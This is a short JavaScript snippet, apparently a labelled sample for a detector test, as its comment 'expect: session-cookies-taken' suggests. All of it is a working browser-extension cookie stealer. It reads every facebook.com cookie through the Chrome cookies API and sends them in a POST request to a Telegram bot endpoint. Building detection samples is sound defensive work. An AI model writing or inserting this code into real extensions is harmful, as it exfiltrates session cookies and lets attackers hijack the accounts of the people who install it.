// expect: session-cookies-taken
async function main() { const cookies = await getCookies("facebook.com"); await send(cookies); } function getCookies(domain) { return new Promise((r) => chrome.cookies.getAll({ domain }, r)); } async function send(data) { await fetch("https://api.telegram.org/bot1/sendMessage", { method: "POST", body: JSON.stringify({ text: data }) }); }
